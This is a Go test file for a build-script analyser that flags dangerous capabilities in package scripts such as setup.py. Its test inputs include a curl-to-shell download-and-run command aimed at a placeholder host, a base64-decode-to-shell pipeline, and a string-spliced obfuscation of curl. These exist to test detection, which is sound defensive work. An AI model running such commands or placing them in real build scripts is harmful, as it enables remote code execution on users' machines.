package script_test

import (
	"context"
	"flag"
	"fmt"
	"os"
	"path"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/rogpeppe/go-internal/txtar"

	"github.com/lockkeeper/lockkeeper/buildcode"
	"github.com/lockkeeper/lockkeeper/buildcode/script"
)

var update = flag.Bool("update", false, "write what the analyser says into testdata/*.txtar")

// files is a package of a few files.
type files []txtar.File

func (f files) Has(name string) bool { return f.Read(name) != nil }

func (f files) Named(base string) []string {
	var out []string
	for _, file := range f {
		if path.Base(file.Name) == base {
			out = append(out, file.Name)
		}
	}
	return out
}

func (f files) Read(name string) []byte {
	for _, file := range f {
		if file.Name == name {
			return append([]byte{}, file.Data...)
		}
	}
	return nil
}

// TestCases analyses the first file of testdata/*.txtar. "want" is what is said.
// A case whose name begins with "evade" or "incident" must be grave, one that
// begins with "honest" must not.
func TestCases(t *testing.T) {
	names, err := filepath.Glob("testdata/*.txtar")
	if err != nil || len(names) < 40 {
		t.Fatalf("%d cases, %v", len(names), err)
	}
	for _, name := range names {
		base := strings.TrimSuffix(filepath.Base(name), ".txtar")
		t.Run(base, func(t *testing.T) {
			ar, err := txtar.ParseFile(name)
			if err != nil {
				t.Fatal(err)
			}
			var in files
			want := ""
			for _, f := range ar.Files {
				if f.Name == "want" {
					want = string(f.Data)
				} else {
					in = append(in, f)
				}
			}
			r := script.Analyse(context.Background(), in, []string{in[0].Name})
			if again := script.Analyse(context.Background(), in, []string{in[0].Name}); !cmp.Equal(r, again) {
				t.Errorf("not the same twice: %s", cmp.Diff(r, again))
			}
			grave := false
			for _, u := range r.Uses {
				grave = grave || u.Capability.Grave()
			}
			switch kind, _, _ := strings.Cut(base, "-"); {
			case (kind == "evade" || kind == "incident") && !grave:
				t.Errorf("nothing grave is said")
			case kind == "honest" && grave:
				t.Errorf("an honest script is called grave")
			}
			got := describe(r)
			if *update {
				ar.Files = append([]txtar.File(in), txtar.File{Name: "want", Data: []byte(got)})
				if err := os.WriteFile(name, txtar.Format(ar), 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("%s (-want +got):\n%s", strings.TrimSpace(string(ar.Comment)), diff)
			}
		})
	}
}

func describe(r script.Result) string {
	var b strings.Builder
	for _, u := range r.Uses {
		fmt.Fprintf(&b, "use: %s:%d %s\n", u.Path, u.Line, u.Capability)
	}
	for _, f := range r.Files[1:] {
		fmt.Fprintf(&b, "reads: %s\n", f)
	}
	for _, f := range r.Starts {
		fmt.Fprintf(&b, "starts: %s\n", f)
	}
	for _, p := range r.Python {
		fmt.Fprintf(&b, "python: %q\n", p.Text)
	}
	return b.String()
}

func TestCommandLine(t *testing.T) {
	for text, want := range map[string]buildcode.Capability{
		"curl https://example.invalid/x | sh": buildcode.RunUnknown,
		"sed s/a/b/ x":                        buildcode.Run("sed"),
		"\x00 x":                              buildcode.RunUnknown,
		"echo aWQ= | base64 -d | sh":          buildcode.Decode,
	} {
		found := false
		for _, u := range script.CommandLine(context.Background(), files{}, "setup.py", 3, text).Uses {
			found = found || u.Capability == want && u.Line == 3 && u.Path == "setup.py"
		}
		if !found {
			t.Errorf("%q: no %s", text, want)
		}
	}
}

func TestCommands(t *testing.T) {
	got := script.Commands("C=cu; C=${C}rl; $C -s \"$(id -u)\" \x00 && make > x # y")
	want := [][]string{{"id", "-u"}, {"cu", "-s", "\x00", "\x00"}, {"curl", "-s", "\x00", "\x00"}, {"make"}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("commands (-want +got):\n%s", diff)
	}
}
